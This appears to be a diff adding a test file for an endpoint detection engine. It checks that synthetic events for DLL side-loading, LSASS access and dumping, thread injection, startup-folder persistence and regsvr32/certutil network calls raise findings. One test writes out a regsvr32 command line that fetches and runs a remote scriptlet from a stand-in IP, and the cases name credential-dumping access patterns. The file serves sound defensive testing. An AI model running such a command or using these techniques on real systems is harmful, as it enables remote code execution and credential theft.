@@ -1,0 +1,145 @@
+import { describe, expect, it } from "vitest";
+import { anEvent, testCatalog } from "../../../test/support/events.ts";
+import type { Event } from "../../model/event.ts";
+import { connect, file, INSIDE, load, OUTSIDE, on, PUBLIC, S32, start, thread } from "../chains/cases/story.ts";
+import { createDetector } from "../detector.ts";
+
+const STARTUP = "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\";
+const ENGINE = "C:\\Windows\\assembly\\GAC_MSIL\\System.Management.Automation\\System.Management.Automation.dll";
+
+function find(events: readonly Event[], minLevel: "low" | "medium" | "informational" = "low") {
+  const detector = createDetector({ catalog: testCatalog(), minLevel });
+  return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
+}
+
+const made = (module: string, company: string, image = `${S32}rundll32.exe`) =>
+  anEvent("moduleLoad", 0, {
+    process: { key: "id:P", pid: 9, image },
+    module,
+    company,
+    signature: { signed: false, status: "Unavailable" },
+  });
+const looks = (rights: string, name: string) =>
+  anEvent("osApiExecution", 0, {
+    process: { key: "id:P", pid: 9, image: `${S32}${name}` },
+    api: "processAccess",
+    access: rights,
+    target: { key: "id:L", pid: 700, image: `${S32}lsass.exe` },
+  });
+const driver = (module: string) => anEvent("moduleLoad", 0, { module, signature: { signed: true, status: "Valid" } });
+
+/** By analytic: an event that tells of it, and the ordinary one beside it. */
+const CASES: readonly (readonly [analytic: string, fires: Event, silent: Event])[] = [
+  [
+    "twin-library",
+    load(0, "P", "C:\\Windows \\System32\\a.exe", "C:\\Windows \\System32\\b.dll"),
+    load(0, "P", "a.exe", `${S32}b.dll`),
+  ],
+  [
+    "twin-file",
+    file(0, "P", `${PUBLIC}a.exe`, "C:\\Windows \\System32\\b.dll"),
+    file(0, "P", `${PUBLIC}a.exe`, `${S32}b.dll`),
+  ],
+  [
+    "redirected-library",
+    load(0, "P", "a.exe", `${S32}a.exe.local\\x\\b.dll`),
+    load(0, "P", "a.exe", `${S32}a.exe.local\\x\\b.dll`, true),
+  ],
+  [
+    "phantom-library",
+    load(0, "P", "WerFault.exe", `${S32}wow64log.dll`),
+    load(0, "P", "WerFault.exe", `${S32}wow64log.dll`, true),
+  ],
+  [
+    "side-loaded",
+    load(0, "P", `${PUBLIC}a.exe`, `${PUBLIC}version.dll`),
+    load(0, "P", `${PUBLIC}a.exe`, `${PUBLIC}version.dll`, true),
+  ],
+  [
+    "foreign-library",
+    load(0, "P", "SearchFilterHost.exe", `${PUBLIC}x.dll`),
+    load(0, "P", "SearchFilterHost.exe", "C:\\Program Files\\V\\x.dll"),
+  ],
+  ["foreign-in-system", made(`${S32}orchard.dll`, "Orchard"), made(`${S32}orchard.dll`, "Microsoft Corporation")],
+  ["unexpected-engine", load(0, "P", "write.exe", ENGINE, true), load(0, "P", "mmc.exe", ENGINE, true)],
+  ["driver", driver(`${PUBLIC}a.sys`), driver(`${S32}drivers\\a.sys`)],
+  ["outward-call", connect(0, "P", "cmstp.exe", OUTSIDE), connect(0, "P", "cmstp.exe", INSIDE)],
+  ["memory-of-lsass", looks("0x1010", "powershell.exe"), looks("0x1000", "powershell.exe")],
+  ["look-into-lsass", looks("0x1410", "powershell.exe"), looks("0x1410", "svchost.exe")],
+  [
+    "foreign-thread",
+    thread(0, "P", "mshta.exe", "T", "explorer.exe"),
+    thread(0, "P", "csrss.exe", "T", "explorer.exe"),
+  ],
+  [
+    "memory-image",
+    file(0, "P", "taskmgr.exe", `${PUBLIC}lsass.DMP`),
+    file(0, "P", "taskmgr.exe", `${PUBLIC}notepad.DMP`),
+  ],
+  ["logon-program", file(0, "P", "mstsc.exe", `${STARTUP}a.exe`), file(0, "P", "msiexec.exe", `${STARTUP}a.exe`)],
+  ["logon-shortcut", file(0, "P", "wscript.exe", `${STARTUP}a.lnk`), file(0, "P", "explorer.exe", `${STARTUP}a.lnk`)],
+];
+
+describe.each(CASES)("an event that tells alone: %s", (analytic, fires, silent) => {
+  const behaviour = `windows/chains/alone-${analytic}`;
+  it("is a finding, and its ordinary twin is none", () => {
+    const [finding, ...more] = find([fires]);
+    expect(more).toEqual([]);
+    expect(finding?.behaviour).toBe(behaviour);
+    expect(finding?.title).not.toMatch(/\{|undefined|^ /);
+    expect(find([silent], "informational").map((one) => one.behaviour)).not.toContain(behaviour);
+  });
+});
+
+it("has a case for every analytic that rests on one event", () => {
+  const alone = testCatalog().chains.filter((chain) => chain.alone);
+  expect(CASES.map(([name]) => `alone/${name}`).toSorted()).toEqual(alone.map(({ id }) => id).toSorted());
+});
+
+describe("what the catalogue has an event confirm", () => {
+  it.each([
+    ["hostile alone", connect(0, "P", "regsvr32.exe", OUTSIDE), "windows/regsvr32/scriptlet", "medium"],
+    [
+      "a library by name",
+      load(0, "P", "regsvr32.exe", `${S32}scrobj.dll`, true),
+      "windows/regsvr32/scriptlet",
+      "medium",
+    ],
+    ["not so rare", connect(0, "P", "certutil.exe", OUTSIDE), "windows/certutil/", "low"],
+    ["a program that it wrote", file(0, "P", "certutil.exe", `${PUBLIC}a.exe`), "windows/certutil/", "low"],
+    ["Linux", on("linux", connect(0, "P", "/usr/bin/gawk", OUTSIDE))[0], "linux/awk/network-shell", "medium"],
+  ] as const)("makes a finding: %s", (_, event, behaviour, level) => {
+    const [finding] = find(event ? [event] : []);
+    expect(finding?.behaviour).toContain(behaviour);
+    expect(finding?.level).toBe(level);
+  });
+  it.each([
+    ["an ordinary behaviour has it, too", connect(0, "P", "curl.exe", OUTSIDE)],
+    ["the far end is of the site", connect(0, "P", "regsvr32.exe", INSIDE)],
+    ["the file is no program", file(0, "P", "certutil.exe", `${PUBLIC}a.txt`)],
+  ])("makes none where %s", (_, event) => {
+    expect(find([event])).toEqual([]);
+  });
+  it("confirms the finding of a start that is logged, and is none of its own", () => {
+    const line = "regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll";
+    const start_ = start(0, "P", "regsvr32.exe", line);
+    const findings = find([
+      start_,
+      load(1, "P", "regsvr32.exe", `${S32}scrobj.dll`, true),
+      connect(2, "P", "regsvr32.exe", OUTSIDE),
+    ]);
+    expect(findings).toHaveLength(1);
+    expect(findings[0]?.commandLine).toBe(line);
+  });
+  it("is one finding for all that a process did, that of the gravest", () => {
+    const events = [
+      connect(0, "P", "certutil.exe", OUTSIDE),
+      file(1, "P", "certutil.exe", `${PUBLIC}a.exe`),
+      file(2, "P", "certutil.exe", `${STARTUP}a.exe`),
+    ];
+    const [finding, ...more] = find(events);
+    expect(more).toEqual([]);
+    expect(finding?.behaviour).toBe("windows/chains/alone-logon-program");
+    expect(finding?.related.map(({ role }) => role)).toEqual(["evidence", "evidence"]);
+  });
+});
